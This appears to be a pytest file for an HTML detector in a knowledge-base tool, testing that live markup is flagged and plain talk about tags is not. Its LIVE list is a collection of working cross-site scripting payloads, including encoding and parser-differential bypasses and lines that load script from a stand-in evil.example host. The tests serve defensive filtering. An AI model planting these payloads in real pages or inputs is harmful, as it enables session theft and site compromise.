"""kbgen.markup: live HTML in notes is found, words about markup are not."""

from __future__ import annotations

import pytest

from kbgen.markup import live_markup

LIVE = [
    "<script>alert(1)</script> hi",
    "<script>alert(1)</script x>",
    "<script>alert(1)</script/>",
    "<script/src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    '<img alt=">" src=x onerror=alert(1)>',
    "<img/onerror=alert(1) src=x> upload broken",
    "<body/onload=alert(1)> sync",
    "<svg><animate onbegin=alert(1)>",
    "see <iframe src=https://evil.example>",
    "<iframe/src=data:text/html;base64,PHNj></iframe>",
    "<object/data=data:text/html,x>",
    "<embed/src=x.swf>",
    '<a href="javascript:top.alert(1)">x</a>',
    '<a href="javascript:alert`1`">x</a>',
    "<a href=javascript:(alert)(1)>x</a>",
    '<a href="javascript:%61lert(1)">x</a>',
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    # parser differentials: where a browser ends raw text, a comment or a tag differently
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!----!><img src=x onerror=alert(1)>-->",
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<svg><script href="data:,alert(1)"/></svg>',
    '<svg><script xlink:href="//evil.example/x.js"></script></svg>',
    "<img src=x onerror=alert(1)//",
]

WORDS = [
    "why does <b> not render in my doc",
    "my <form> field won't submit",
    "How do I add a <script> tag to my site?",
    "Where do I paste the <script></script> snippet from Google Analytics?",
    "How do I add a <style> tag to my page template?",
    "where is the <meta> description setting?",
    "the <link> to my store is broken",
    "a <div class=\"x\"> wrapper around the widget",
    '<a href="https://cos.example/help">this link</a> is broken',
    "Enable JavaScript: Chrome (desktop) and Safari (iOS)",
    "JavaScript: Settings (Advanced) > Site settings",
    "Links show javascript:void(0) on hover",
    "if (count<max) onlineUsers = 0;",
    "Filter a<b, online=true",
    "I set limit <100 and onboarding = true in the config",
    'Use <meta name="viewport" content="width=device-width"> on mobile pages.',
    "",
]


@pytest.mark.parametrize("text", LIVE)
def test_live_markup_is_found(text: str) -> None:
    assert live_markup(text), text


@pytest.mark.parametrize("text", WORDS)
def test_words_about_markup_are_not(text: str) -> None:
    assert live_markup(text) == ""
